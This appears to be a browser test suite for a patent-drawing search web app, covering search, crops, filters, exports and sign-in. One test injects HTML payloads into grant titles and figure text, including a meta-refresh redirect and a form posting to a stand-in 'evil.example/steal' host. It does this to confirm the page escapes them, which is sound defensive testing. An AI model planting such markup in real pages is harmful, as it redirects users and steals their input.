"""The examiner web app in a real browser (Debian's Chromium, driven by Playwright), served by
the query service process over HTTP, on the real sample grants, with token auth on.

Every test loads the page fresh; all requests must stay on the app's own origin (no CDN:
it works offline).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
from pathlib import Path

import pytest
from PIL import Image

from harness.browser import chromium, drag_crop
from patentclip.config import CoreSettings
from patentclip.store import PatentStore
from services.common.auth import Role, new_token, token_line
from services.query.config import QuerySettings, ServerSettings
from services.query.main import QueryServer

MAX_IMAGE_BYTES = 1_500_000
TIMEOUT_MS = 30_000


@pytest.fixture(scope="module")
def corpus(tmp_path_factory, encoder, sample_dir):
    """The 40 sample grants with part tiles, and USD0919445's figure labels read (its XML
    says 6 figures on 3 sheets, not which is where): figure rows."""
    from harness.services import index_samples

    corpus = index_samples(encoder, tmp_path_factory.mktemp("web"), "web", sample_dir,
                           parts=True, labelled=("D0919445",))
    yield corpus
    corpus[0].close()


@pytest.fixture(scope="module")
def token(tmp_path_factory) -> tuple[str, Path]:
    value = new_token()
    path = tmp_path_factory.mktemp("web-auth") / "tokens"
    path.write_text(token_line(value, Role.SEARCH, "examiner-ui") + "\n")
    return value, path


def _server(store: PatentStore, images, token_file: Path, encoder, alias: str = ""):
    core = CoreSettings(milvus_uri=store.uri, images_dir=str(images),
                        collection_prefix=store.prefix)
    settings = QuerySettings(core, ServerSettings(
        host="127.0.0.1", port=0, metrics_port=0, http_port=-1, alias=alias,
        max_image_bytes=MAX_IMAGE_BYTES, alias_poll_s=0.5, grace_s=1.0,
        auth_tokens_file=str(token_file)))
    return QueryServer(settings, encoder=encoder, store=store).start()


@pytest.fixture(scope="module")
def server(corpus, encoder, token):
    query_server = _server(corpus[0], corpus[1], token[1], encoder)
    yield query_server
    query_server.stop(grace=1)


@pytest.fixture(scope="module")
def browser():
    with chromium() as b:
        yield b


@pytest.fixture
def app(browser, server, token):
    """A fresh page of the app, signed in with the search token; ``app.requests`` lists
    every URL the page asked for."""
    page = _page(browser, server, token[0])
    yield page
    page.context.close()
    _stays_on_origin(page, server)


def _page(browser, server, token: str = ""):
    context = browser.new_context(accept_downloads=True, viewport={"width": 1400, "height": 900})
    if token:
        context.add_init_script(f"sessionStorage.setItem('patentclip.token', '{token}')")
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    page.requests = []
    page.errors = []
    page.on("request", lambda request: page.requests.append(request.url))
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    page.goto(f"http://127.0.0.1:{server.http.port}/")
    return page


def _search_text(page, text: str) -> None:
    page.fill("#query-text", text)
    page.click("#search-button")
    page.wait_for_selector("#results .card")


def _cards(page) -> list[dict]:
    return page.eval_on_selector_all("#results .card", "cards => cards.map(c => c.hit)")


def _wait_search(page, action) -> dict:
    """Run ``action`` and return the JSON of the /api/search response it caused."""
    with page.expect_response(lambda r: r.url.endswith("/api/search")) as info:
        action()
    return info.value.json()


def _give_file(page, how: str, name: str, data: bytes) -> None:
    """A file dropped on the drop zone or pasted into the page, as the browser delivers it."""
    page.evaluate("""([how, name, b64]) => {
        const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
        const transfer = new DataTransfer();
        transfer.items.add(new File([bytes], name));
        const event = how === "drop"
          ? new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true })
          : new ClipboardEvent("paste", { clipboardData: transfer, bubbles: true,
                                          cancelable: true });
        (how === "drop" ? document.querySelector("#drop-zone") : document).dispatchEvent(event);
    }""", [how, name, base64.b64encode(data).decode()])


def _api_search(page, body: dict) -> dict:
    """POST /api/search from the page, with its token, as the app does."""
    return page.evaluate("""async (body) => {
        const response = await fetch("/api/search", { method: "POST", body: JSON.stringify(body),
          headers: { "Content-Type": "application/json",
                     "Authorization": `Bearer ${sessionStorage.getItem("patentclip.token")}` } });
        return response.json();
    }""", {"page_size": 50, **body})


def _stays_on_origin(page, server) -> None:
    origin = f"http://127.0.0.1:{server.http.port}/"
    outside = [u for u in page.requests if not u.startswith((origin, "blob:", "data:"))]
    assert not outside, f"the page reached outside its origin: {outside}"
    assert not page.errors, page.errors


def test_text_search_shows_drawings_with_their_facts_and_the_header(app, server, corpus):
    _search_text(app, "front perspective view of a bottle")
    info = server.live.current()
    header = app.inner_text("#server-info")
    assert info.model_version in header and f"{info.sheets} drawing sheets" in header
    assert info.sheets == sum(len(d.images) for d in corpus[2].values())
    cards = _cards(app)
    assert len(cards) == 24 and len({c["patent"] for c in cards}) == 24
    assert [c["rank"] for c in cards] == list(range(1, 25))
    documents = corpus[2]
    first = app.locator("#results .card").first
    hit = cards[0]
    assert documents[hit["patent"]].grant.title == hit["title"]
    text = first.inner_text()
    for fact in (hit["patent"], hit["title"], hit["grant_date"], hit["view"]):
        assert fact in text
    assert f"found by {', '.join(hit['found_by'])}" in text and hit["found_by"]
    assert any("words" in c["found_by"] for c in cards)  # "bottle": the lexical leg
    first.locator("img[data-loaded]").wait_for()  # this card's own thumbnail, decoded
    size = first.locator("img").evaluate("img => [img.naturalWidth, img.naturalHeight]")
    assert max(size) == 256  # the thumbnail, rendered from the G4 TIFF


def test_thumbnails_load_lazily_and_pages_follow_one_ranking(app, server):
    _search_text(app, "a design")
    app.wait_for_selector("#results .card img[data-loaded]")
    loaded = app.eval_on_selector_all("#results .card img[data-loaded]", "i => i.length")
    assert 0 < loaded < 24  # only what is on screen (and just below it)
    app.locator("#results .card").last.scroll_into_view_if_needed()
    app.wait_for_function("n => document.querySelectorAll('#results img[data-loaded]')"
                          ".length > n", arg=loaded)
    first_page = [c["patent"] for c in _cards(app)]
    second = _wait_search(app, lambda: app.click("#next-page"))
    assert [h["rank"] for h in second["hits"]] == list(range(25, 25 + len(second["hits"])))
    assert not set(first_page) & {h["patent"] for h in second["hits"]}
    assert app.inner_text("#page-label") == "page 2"
    back = _wait_search(app, lambda: app.click("#prev-page"))  # by the first page's token
    assert [h["patent"] for h in back["hits"]] == first_page and back["page"] == 0


def _drawing(corpus) -> tuple[str, str, bytes]:
    patent, document = next((p, d) for p, d in sorted(corpus[2].items()) if len(d.images) > 2)
    name, data = sorted(document.images.items())[1]
    return patent, name, data


def test_a_drawing_upload_finds_its_patent_and_a_crop_searches_part_of_it(app, corpus,
                                                                          tmp_path):
    patent, name, data = _drawing(corpus)
    path = tmp_path / name
    path.write_bytes(data)  # the G4 TIFF as USPTO ships it
    app.set_input_files("#file-input", str(path))
    app.wait_for_selector("#query-preview[src^='blob:']")
    response = _wait_search(app, lambda: app.click("#search-button"))
    assert response["hits"][0]["patent"] == patent
    query = response["record"]["query"]
    assert query["kind"] == "drawing" and query["crop"] is None
    assert query["image_sha256"] == hashlib.sha256(data).hexdigest()

    drag_crop(app, 0.1, 0.2, 0.6, 0.7)
    assert "searching the selected part" in app.inner_text("#crop-label")
    cropped = _wait_search(app, lambda: app.click("#search-button"))
    crop = cropped["record"]["query"]["crop"]
    for key, expected in (("left", 0.1), ("top", 0.2), ("right", 0.6), ("bottom", 0.7)):
        assert abs(crop[key] - expected) < 0.02, crop
    assert [h["score"] for h in cropped["hits"]] != [h["score"] for h in response["hits"]]


def test_text_and_drawing_together(app, corpus, tmp_path):
    patent, name, data = _drawing(corpus)
    png = io.BytesIO()
    Image.open(io.BytesIO(data)).convert("L").save(png, "PNG")  # a PNG this time, dropped
    _give_file(app, "drop", "sketch.png", png.getvalue())
    app.wait_for_selector("#query-preview[src^='blob:']")
    title = corpus[2][patent].grant.title
    app.fill("#query-text", title)
    response = _wait_search(app, lambda: app.click("#search-button"))
    assert response["record"]["query"]["kind"] == "text+drawing"
    assert "sketch.png" in app.inner_text("#result-summary")
    # The fused order is reciprocal-rank fusion of the text's and the drawing's rankings
    # (each complete here: 40 patents), as the same API returns them alone.
    alone = {kind: [h["patent"] for h in _api_search(app, body)["hits"]] for kind, body in (
        ("text", {"text": title}), ("drawing", {"image": base64.b64encode(png.getvalue())
                                                .decode()}))}
    assert alone["drawing"][0] == patent, alone
    assert len(alone["text"]) == len(alone["drawing"]) == len(corpus[2])
    fused = {p: sum(1 / (60 + ranking.index(p) + 1) for ranking in alone.values())
             for p in alone["text"]}
    assert [h["patent"] for h in response["hits"]] == sorted(
        fused, key=lambda p: (-fused[p], min(r.index(p) for r in alone.values())))[:24]


def test_a_locarno_filter_narrows_the_results_and_changes_the_counts(app, corpus):
    _search_text(app, "a design")
    counts = {c["locarno_class"]: c["results"]
              for c in _wait_search(app, lambda: app.click("#search-button"))["locarno_counts"]}
    assert sum(counts.values()) == len(corpus[2]) and len(counts) > 2
    shown = app.inner_text("#locarno-list")
    top = max(counts, key=counts.get)
    assert f"{top} " in shown and f"in the first {len(corpus[2])} results" in app.inner_text(
        "#counts-note")
    narrowed = _wait_search(app, lambda: app.check(f"#loc-{top}"))
    assert {c["locarno_class"]: c["results"] for c in narrowed["locarno_counts"]} == {
        top: counts[top]}
    assert narrowed["record"]["query"]["filters"]["locarno"] == [top]
    assert all(c["locarno"].startswith(top) for c in _cards(app))
    assert app.locator("#locarno-list label").count() == 1
    dates = sorted(d.grant.grant_date for d in corpus[2].values())
    cut = f"{dates[-1] // 10000}-{dates[-1] // 100 % 100:02d}-{dates[-1] % 100:02d}"
    _wait_search(app, lambda: app.uncheck(f"#loc-{top}"))
    dated = _wait_search(app, lambda: app.fill("#date-from", cut))
    assert dated["counted"] == sum(1 for d in dates if d >= dates[-1])
    _wait_search(app, lambda: app.fill("#date-from", ""))
    viewed = _wait_search(app, lambda: app.check("#view-front"))
    assert viewed["record"]["query"]["filters"]["views"] == ["front"]
    assert viewed["hits"] and {h["view"] for h in viewed["hits"]} == {"front"}


def test_a_patent_number_as_examiners_type_it_finds_designs_like_it(app, corpus):
    patent = sorted(corpus[2])[5]
    digits = patent[1:].lstrip("0")
    app.fill("#query-patent", f"US D{digits[:-3]},{digits[-3:]} S1")
    response = _wait_search(app, lambda: app.click("#search-button"))
    assert response["record"]["query"] | {"kind": "similar", "patent": patent} == \
        response["record"]["query"]
    assert response["hits"] and patent not in {h["patent"] for h in response["hits"]}
    assert f"more like {patent}" in app.inner_text("#result-summary")
    app.fill("#query-patent", "a lamp")
    app.click("#search-button")
    app.wait_for_selector("#message[data-kind=invalid]")
    assert "not a patent number" in app.inner_text("#message")


def test_keyboard_opens_the_patent_view_with_every_sheet_claim_and_link(app, corpus):
    _search_text(app, "a design")
    app.locator("#results .card").first.focus()
    app.keyboard.press("ArrowRight")
    second = _cards(app)[1]
    assert app.evaluate("document.activeElement.dataset.patent") == second["patent"]
    app.keyboard.press("Enter")
    app.wait_for_selector("#patent-view[open]")
    document = corpus[2][second["patent"]]
    assert app.locator("#patent-sheets figure").count() == len(document.images)
    assert document.grant.claim in app.inner_text("#patent-claim")
    sheets_text = app.inner_text("#patent-sheets")
    for figure in document.grant.figures:
        assert figure.description in sheets_text
    number = second["patent"][0] + second["patent"][1:].lstrip("0")
    assert f"q={number}.pn." in app.get_attribute("#uspto-link", "href")
    # The references it cites, the examiner's first; none is in this corpus: USPTO links.
    cites = app.eval_on_selector_all("#patent-cites li.cite", "items => items.map(i => "
                                     "[i.className, i.dataset.patent])")
    citations = document.grant.citations
    assert len(cites) == len(citations) > 0
    examiner = sum(c.category == "examiner" for c in citations)
    assert all("examiner" in cls for cls, _ in cites[:examiner])
    assert {p for _, p in cites if p} == {c.us_patent for c in citations if c.us_patent}
    assert app.locator("#patent-cites a.in-corpus").count() == 0
    assert app.locator("#patent-cites a.uspto").count() == sum(bool(c.us_patent)
                                                               for c in citations)
    app.wait_for_selector("#patent-sheets img[data-loaded]")
    size = app.locator("#patent-sheets img[data-loaded]").first.evaluate(
        "img => Math.max(img.naturalWidth, img.naturalHeight)")
    assert size == 1024  # readable size
    more = _wait_search(app, lambda: app.locator(
        "#patent-sheets figure[data-sheet='1'] [data-act=similar-sheet]").click())
    assert more["record"]["query"]["kind"] == "similar"
    assert more["record"]["query"]["sheet"] == 1
    assert second["patent"] not in {h["patent"] for h in more["hits"]}
    assert not app.locator("#patent-view[open]").count()


def test_compare_two_hits_and_the_query_with_a_hit(app, corpus, tmp_path):
    _search_text(app, "a design")
    cards = app.locator("#results .card")
    cards.nth(0).focus()
    app.keyboard.press("c")
    assert app.is_disabled("#compare-button")
    cards.nth(2).locator("[data-act=compare]").click()
    app.click("#compare-button")
    app.wait_for_selector("#compare-view[open]")
    app.wait_for_function("() => document.querySelectorAll('#compare-panes img[src^=\"blob:\"]')"
                          ".length === 2")
    hits = _cards(app)
    captions = app.inner_text("#compare-panes")
    assert hits[0]["patent"] in captions and hits[2]["patent"] in captions
    app.keyboard.press("Escape")
    cards.nth(0).locator("[data-act=compare]").click()  # one hit left ...
    patent, name, data = _drawing(corpus)
    _give_file(app, "paste", name, data)  # ... and the query drawing, pasted
    app.wait_for_selector("#query-preview[src^='blob:']")
    app.click("#compare-button")
    app.wait_for_selector("#compare-view[open]")
    panes = app.locator("#compare-panes figure")
    assert panes.count() == 2 and panes.nth(0).get_attribute("data-key") == "query"
    assert name in panes.nth(0).inner_text()


def test_the_search_record_exports_as_json_and_csv(app, server):
    _search_text(app, "hinged lid")
    seen = 24 + len(_wait_search(app, lambda: app.click("#next-page"))["hits"])
    with app.expect_download() as info:
        app.click("#export-json")
    record = json.loads(Path(info.value.path()).read_text())
    assert record["format"] == "patentclip-search-record/1"
    assert record["model_version"] == server.live.current().model_version
    assert record["query"]["text"] == "hinged lid" and record["query"]["kind"] == "text"
    assert record["searched_at"].endswith("+00:00")
    assert [r["rank"] for r in record["results"]] == list(range(1, seen + 1))  # both pages
    assert info.value.suggested_filename.endswith(".json")
    with app.expect_download() as info:
        app.click("#export-csv")
    rows = list(csv.DictReader(io.StringIO(Path(info.value.path()).read_text())))
    assert [int(r["rank"]) for r in rows] == list(range(1, seen + 1))
    assert {r["query_text"] for r in rows} == {"hinged lid"}
    assert {r["model_version"] for r in rows} == {record["model_version"]}
    assert [r["patent"] for r in rows] == [r["patent"] for r in record["results"]]
    assert json.loads(rows[0]["filters"])["locarno"] == []


def test_error_states_empty_bad_and_too_large_drawings(app, tmp_path):
    app.fill("#date-from", "2030-01-01")
    _search_text_no_results(app, "a lamp")
    assert app.get_attribute("#message", "data-kind") == "empty"
    assert "Nothing matches" in app.inner_text("#message")
    bad = tmp_path / "notes.png"
    bad.write_bytes(b"these are not drawing bytes")
    app.set_input_files("#file-input", str(bad))
    app.wait_for_selector("#message[data-kind=bad_image]")
    assert "notes.png" in app.inner_text("#message")
    big = tmp_path / "scan.tif"
    big.write_bytes(b"\0" * (MAX_IMAGE_BYTES + 10))
    app.set_input_files("#file-input", str(big))
    app.wait_for_selector("#message[data-kind=too_large]")
    assert str(MAX_IMAGE_BYTES) in app.inner_text("#message")
    assert app.is_hidden("#crop-box")


def _search_text_no_results(page, text: str) -> None:
    page.fill("#query-text", text)
    response = _wait_search(page, lambda: page.click("#search-button"))
    assert response["hits"] == []


@pytest.mark.parametrize("presented", ["", "pcs_not-a-token"], ids=["missing", "wrong"])
def test_a_missing_or_wrong_token_asks_for_one(browser, server, presented):
    page = _page(browser, server, presented)
    try:
        page.wait_for_selector("#message[data-kind=auth]")
        assert ("missing bearer token" if not presented else "invalid bearer token") in \
            page.inner_text("#message")
        assert page.locator("#token-view[open]").count() == 1
    finally:
        page.context.close()


def test_entering_the_token_signs_in(browser, server, token):
    page = _page(browser, server)
    try:
        page.wait_for_selector("#token-view[open]")
        page.fill("#token-input", token[0])
        page.click("#token-save")
        page.wait_for_selector("#server-info:has-text('drawing sheets')")
        assert page.locator("#message").is_hidden()
        _search_text(page, "a chair")
    finally:
        page.context.close()


def test_a_service_not_ready_says_so(browser, corpus, encoder, token):
    store = PatentStore(corpus[0].uri, prefix=corpus[0].prefix)
    waiting = _server(store, corpus[1], token[1], encoder, alias="web_nothing_here")
    try:
        page = _page(browser, waiting, token[0])
        page.wait_for_selector("#message[data-kind=not_ready]")
        assert "not serving yet" in page.inner_text("#message")
        assert page.inner_text("#server-info") == "not ready"
        page.context.close()
    finally:
        waiting.stop(grace=0)


HOSTILE_TITLE = ('Bottle <meta http-equiv="refresh" content="0;url=http://evil.example/">'
                 '<dialog open><form action="http://evil.example/steal"><input name="t">'
                 '</form></dialog><base href="http://evil.example/"><!--')


def test_hostile_grants_through_the_topic_render_as_text_and_nothing_leaves_the_origin(
        browser, encoder, tiny_model_dir, kafka_settings, tmp_path, token):
    """A librdkafka producer that is not ours writes grants whose free text is markup (it
    passes validation: titles are text) and grants whose coded fields are markup (refused
    at decode). The page shows the first as text, never navigates, posts or loses a page."""
    from harness.services import make_bundle, produce_foreign, publish, settings
    from patentclip.drawings.imagestore import LocalImageStore
    from patentclip.v1 import grant_pb2
    from services.embedder.consumer import GrantConsumer

    bundle = make_bundle(tmp_path / "bundles", patents=3, seed=11)
    images = tmp_path / "images"
    published = publish(kafka_settings, images, bundle)
    first = sorted(p.name for p in images.iterdir())[0]
    good = grant_pb2.Grant.FromString(LocalImageStore(images).get(
        LocalImageStore(images).uri_for(first, "grant.pb")))

    def event(number: str, change) -> tuple[bytes, bytes]:
        grant = grant_pb2.Grant()
        grant.CopyFrom(good)
        grant.patent_number = number
        change(grant)
        return number.encode(), grant_pb2.GrantEvent(schema_version=1,
                                                      grant=grant).SerializeToString()

    def markup_text(g):
        g.title = HOSTILE_TITLE
        g.claim = '<img src="http://evil.example/pixel.png">' + g.claim
        for f in g.figures:
            f.description = '<a href="http://evil.example/">' + f.description + "</a>"

    def markup_figure(g):
        g.sheets[0].figure_numbers[:] = ['<meta http-equiv="refresh" content="0;url=//x">']

    def markup_locarno(g):
        g.locarno.code = "<!--"
    produce_foreign(kafka_settings, [event("D0999201", markup_text),
                                     event("D0999202", markup_figure),
                                     event("D0999203", markup_locarno)])
    store = PatentStore(str(tmp_path / "patents.db"), prefix="hostileweb")
    consumer = GrantConsumer(settings(kafka_settings, store.uri, tiny_model_dir, images,
                                      "hostileweb"), encoder, store, LocalImageStore(images))
    summary = consumer.run(until_caught_up=True)
    assert summary.events == published.published + 3
    assert summary.dead_lettered == {"invalid_grant": 2}
    server = _server(store, images, token[1], encoder)
    page = _page(browser, server, token[0])
    try:
        _search_text(page, "bottle")
        titles = page.eval_on_selector_all("#results .card .title",
                                           "nodes => nodes.map(n => n.textContent)")
        assert HOSTILE_TITLE in titles  # shown as the text it is
        assert len(titles) == published.published + 1  # every result card rendered
        assert page.evaluate("""() => document.querySelectorAll(
            '#results meta, #results dialog, #results form, #results base, #results a').length
            """) == 0
        card = page.locator(".card", has_text="D0999201")
        card.locator("[data-act=open]").click()
        page.wait_for_selector("#patent-view[open] figure.sheet")
        assert HOSTILE_TITLE in page.text_content("#patent-title")
        assert page.evaluate("() => document.querySelectorAll('#patent-view img[src^=\"http\"],"
                             " #patent-view meta, #patent-view form').length") == 0
        page.keyboard.press("Escape")
        _search_text(page, "bottle")  # the page still searches
        assert page.url.startswith(f"http://127.0.0.1:{server.http.port}/")
    finally:
        page.context.close()
        server.stop(grace=1)
        store.close()
    _stays_on_origin(page, server)


def test_a_late_answer_to_an_older_search_never_replaces_the_newer_one(browser, server, token):
    """The first search's response is held back until the second has been shown: before,
    it then overwrote the results and the record mixed two queries."""
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    context.add_init_script(f"sessionStorage.setItem('patentclip.token', '{token[0]}')")
    context.add_init_script("""(() => {
        const real = window.fetch;
        let searches = 0;
        window.fetch = (url, options = {}) => {
          if (String(url).endsWith("/api/search") && ++searches === 1) {
            // the first search answers late, and ignores the abort (a slow proxy)
            const { signal, ...rest } = options;
            return new Promise((resolve) => setTimeout(() => resolve(real(url, rest)), 1500));
          }
          return real(url, options);
        };
    })()""")
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    page.goto(f"http://127.0.0.1:{server.http.port}/")
    try:
        page.fill("#query-text", "first query lamp")
        page.click("#search-button")
        page.fill("#query-text", "second query bottle")
        page.click("#search-button")
        page.wait_for_selector("#results .card")
        page.wait_for_timeout(2500)  # the first answer has landed by now, and was dropped
        assert "second query bottle" in page.inner_text("#result-summary")
        record = page.evaluate("""async () => {
            let captured = null;
            const original = URL.createObjectURL;
            URL.createObjectURL = (blob) => {  // thumbnails make blob URLs too: keep JSON only
              if (blob.type.startsWith("application/json")) captured = blob;
              return original(blob);
            };
            document.querySelector("#export-json").click();
            while (!captured) await new Promise((r) => setTimeout(r, 50));
            return JSON.parse(await captured.text());
        }""")
        assert record["query"]["text"] == "second query bottle"
    finally:
        context.close()


def test_the_crop_works_from_the_keyboard(app, corpus, tmp_path):
    _, name, data = _drawing(corpus)
    path = tmp_path / name
    path.write_bytes(data)
    app.set_input_files("#file-input", str(path))
    app.wait_for_selector("#query-preview[src^='blob:']")
    app.focus("#crop-box")
    app.keyboard.press("ArrowRight")  # starts a centred crop
    app.keyboard.press("ArrowRight")  # moves it right by 5%
    app.keyboard.press("Shift+ArrowDown")  # grows its bottom edge by 5%
    assert "searching the selected part" in app.inner_text("#crop-label")
    response = _wait_search(app, lambda: app.click("#search-button"))
    crop = response["record"]["query"]["crop"]
    for key, expected in (("left", 0.30), ("top", 0.25), ("right", 0.80), ("bottom", 0.80)):
        assert abs(crop[key] - expected) < 1e-6, crop
    app.focus("#crop-box")
    app.keyboard.press("Delete")
    assert "drag on the drawing" in app.inner_text("#crop-label")


def test_a_model_with_a_classification_head_suggests_classes_and_one_click_filters(
        browser, server, corpus, tiny_model_dir, token, tmp_path):
    """The served model keeps a classification head (as a trained version does): the page
    shows the query's suggested classes and a click adds the class filter; the gRPC
    response carries them. The plain tiny model (no head) says it has none."""
    import shutil

    import torch

    from patentclip.model.encoder import Encoder
    from patentclip_client import PatentSearchClient
    from trainer.head import save_head

    copy = tmp_path / "with-head" / tiny_model_dir.name  # same name: same model version
    shutil.copytree(tiny_model_dir, copy)
    classes = sorted({d.grant.locarno.main_class for d in corpus[2].values()})
    torch.manual_seed(0)
    plain = Encoder.load(f"local-dir:{tiny_model_dir}")
    save_head(torch.nn.Linear(plain.dim, len(classes)), classes, copy, {"source": "test"})
    encoder = Encoder.load(f"local-dir:{copy}", batch_size=16)
    assert encoder.class_head is not None and encoder.model_version == plain.model_version
    with PatentSearchClient(f"127.0.0.1:{server.port}", token=token[0]) as client:
        page = client.search(text="a design", suggest_classes=3)
        assert page.suggested_classes == [] and "no classification head" in \
            page.suggestions_note
    with_head = _server(corpus[0], corpus[1], token[1], encoder)
    app = _page(browser, with_head, token[0])
    try:
        with PatentSearchClient(f"127.0.0.1:{with_head.port}", token=token[0]) as client:
            page = client.search(text="a design", suggest_classes=3)
        assert [c for c, _ in page.suggested_classes] and \
            {c for c, _ in page.suggested_classes} <= set(classes)
        assert 0 < sum(p for _, p in page.suggested_classes) <= 1.0001
        assert "approximation" in page.suggestions_note  # a text query
        _search_text(app, "a design")
        chips = app.locator("#suggested-classes [data-act=suggest-class]")
        assert chips.count() == 3
        chosen = chips.first.get_attribute("data-locarno")
        with app.expect_request(lambda r: r.url.endswith("/api/search")) as asked:
            chips.first.click()
        assert chosen in json.loads(asked.value.post_data)["filters"]["locarno"]
    finally:
        app.context.close()
        with_head.stop(grace=1)


def _give_files(page, files: list[tuple[str, bytes]]) -> None:
    """Several files dropped on the drop zone at once."""
    page.evaluate("""(files) => {
        const transfer = new DataTransfer();
        for (const [name, b64] of files) {
          transfer.items.add(new File([Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))],
                                      name));
        }
        document.querySelector("#drop-zone").dispatchEvent(new DragEvent("drop", {
          dataTransfer: transfer, bubbles: true, cancelable: true }));
    }""", [[n, base64.b64encode(d).decode()] for n, d in files])


def _view_names(page) -> list[str]:
    return page.eval_on_selector_all("#more-views li", "items => items.map(i => i.dataset.name)")


def test_several_views_of_one_design_dropped_reordered_removed_and_fused(app, corpus):
    patent, document = next((p, d) for p, d in sorted(corpus[2].items()) if len(d.images) > 3)
    sheets = sorted(document.images.items())[1:4]
    _give_files(app, sheets)
    app.locator("#more-views li").nth(1).wait_for()
    assert _view_names(app) == [sheets[1][0], sheets[2][0]]
    assert "3 drawings" in app.inner_text("#views-note")
    app.click("#more-views li:first-child [data-act=move-later]")
    assert _view_names(app) == [sheets[2][0], sheets[1][0]]
    app.click("#more-views li:first-child [data-act=remove-view]")
    assert _view_names(app) == [sheets[1][0]]
    response = _wait_search(app, lambda: app.click("#search-button"))
    assert "record" in response, response
    query = response["record"]["query"]
    assert query["kind"] == "drawing" and query["mode"] == "line"
    assert query["image_name"] == sheets[0][0]
    assert [d["name"] for d in query["drawings"]] == [sheets[1][0]]
    assert [d["sha256"] for d in query["drawings"]] == [hashlib.sha256(sheets[1][1]).hexdigest()]
    assert response["legs"] == ["drawing"]
    top = response["hits"][0]
    assert top["patent"] == patent and top["found_by"] == ["view 1", "view 2"]
    assert "1 more view" in app.inner_text("#result-summary")
    app.click("#more-views li:first-child [data-act=use-first]")  # the view becomes the first
    assert _view_names(app) == [sheets[0][0]]
    swapped = _wait_search(app, lambda: app.click("#search-button"))
    assert swapped["record"]["query"]["image_name"] == sheets[1][0]


def test_a_photo_is_searched_as_the_line_drawing_shown(app, corpus):
    from harness.photos import photo_of

    patent, name, data = _drawing(corpus)
    _give_file(app, "drop", "product.jpg", photo_of(data, seed=3))
    app.wait_for_selector("#query-preview[src^='blob:']")
    line = _wait_search(app, lambda: app.click("#search-button"))
    shown = app.get_attribute("#query-preview", "src")
    with app.expect_response(lambda r: "/api/preview?mode=photo" in r.url) as preview:
        app.select_option("#query-mode", "photo")
    assert preview.value.status == 200
    app.wait_for_function("(shown) => document.querySelector('#query-preview').src !== shown",
                          arg=shown)
    photo = _wait_search(app, lambda: app.click("#search-button"))
    assert photo["record"]["query"]["mode"] == "photo"
    assert "as photo" in app.inner_text("#result-summary")
    assert [h["patent"] for h in photo["hits"]] != [h["patent"] for h in line["hits"]]
    # The preview is the line drawing searched: white paper, black edges, no shading
    colours = app.evaluate("""async () => {
        const img = document.querySelector("#query-preview");
        const canvas = Object.assign(document.createElement("canvas"),
                                     { width: img.naturalWidth, height: img.naturalHeight });
        const pen = canvas.getContext("2d");
        pen.drawImage(img, 0, 0);
        const data = pen.getImageData(0, 0, canvas.width, canvas.height).data;
        const seen = new Set();
        for (let i = 0; i < data.length; i += 4) seen.add(data[i] >> 6);
        return [...seen].sort();
    }""")
    assert colours[0] == 0 and colours[-1] == 3  # black and white, as a drawing


def test_a_sketch_drawn_by_pointer_and_touch_with_undo_and_clear_is_searched(app):
    app.click("#sketch-button")
    canvas = app.locator("#sketch-canvas")
    box = canvas.bounding_box()

    def stroke(points, touch=False):
        if not touch:
            app.mouse.move(box["x"] + points[0][0] * box["width"],
                           box["y"] + points[0][1] * box["height"])
            app.mouse.down()
            for x, y in points[1:]:
                app.mouse.move(box["x"] + x * box["width"], box["y"] + y * box["height"],
                               steps=4)
            app.mouse.up()
            return
        touch = app.context.new_cdp_session(app)  # real touch input, as a tablet sends it
        touch.send("Emulation.setTouchEmulationEnabled", {"enabled": True, "maxTouchPoints": 1})
        for kind, (x, y) in zip(["touchStart"] + ["touchMove"] * (len(points) - 1), points,
                                strict=True):
            touch.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": [
                {"x": box["x"] + x * box["width"], "y": box["y"] + y * box["height"]}]})
        touch.send("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})
        touch.detach()

    assert app.is_disabled("#sketch-use")
    stroke([(0.2, 0.2), (0.8, 0.2), (0.8, 0.8)])
    assert app.inner_text("#sketch-count") == "1 stroke"
    app.click("#sketch-undo")
    assert app.inner_text("#sketch-count") == "0 strokes" and app.is_disabled("#sketch-use")
    stroke([(0.2, 0.2), (0.8, 0.2), (0.8, 0.8), (0.2, 0.8)])
    stroke([(0.2, 0.8), (0.2, 0.5), (0.2, 0.2)], touch=True)
    assert app.inner_text("#sketch-count") == "2 strokes"
    app.click("#sketch-clear")
    assert app.inner_text("#sketch-count") == "0 strokes"
    stroke([(0.3, 0.3), (0.7, 0.3), (0.7, 0.7), (0.3, 0.7), (0.3, 0.3)])
    stroke([(0.5, 0.1), (0.5, 0.3)], touch=True)
    ink = canvas.evaluate("""c => {
        const d = c.getContext("2d").getImageData(0, 0, c.width, c.height).data;
        let dark = 0;
        for (let i = 0; i < d.length; i += 4) if (d[i] < 128) dark++;
        return dark;
    }""")
    assert ink > 1000
    response = _wait_search(app, lambda: app.click("#sketch-use"))
    query = response["record"]["query"]
    assert query["kind"] == "drawing" and query["mode"] == "sketch"
    assert query["image_name"] == "sketch.png" and response["hits"]
    assert app.input_value("#query-mode") == "sketch"
    assert not app.locator("#sketch-view").evaluate("d => d.open")


def _marks(page, selector: str) -> list[dict]:
    """The boxes drawn over drawings: their region, label and place relative to the image."""
    return page.eval_on_selector_all(selector, """marks => marks.map(m => {
        const img = m.parentElement.querySelector("img").getBoundingClientRect();
        const box = m.getBoundingClientRect();
        return { region: m.dataset.region.split(",").map(Number), label: m.title,
                 at: [(box.left - img.left) / img.width, (box.top - img.top) / img.height,
                      (box.right - img.left) / img.width, (box.bottom - img.top) / img.height] };
    })""")


def test_a_cropped_part_shows_where_each_hit_matched_and_figures_keep_their_views(
        app, corpus, tmp_path):
    """USD0919445 (6 figures on 3 sheets; labels read at ingest): a crop of FIG. 4 (the top
    view, upper right of sheet 2) is matched against parts; every hit's thumbnail and its
    compare pane show the part of its sheet that matched; the patent view boxes each
    figure with its number and view; a view filter finds the sheet by its figure."""
    document = corpus[2]["D0919445"]
    name = next(n for n in document.images if n.endswith("D00002.TIF"))
    path = tmp_path / name
    path.write_bytes(document.images[name])
    app.set_input_files("#file-input", str(path))
    app.wait_for_selector("#query-preview[src^='blob:']")
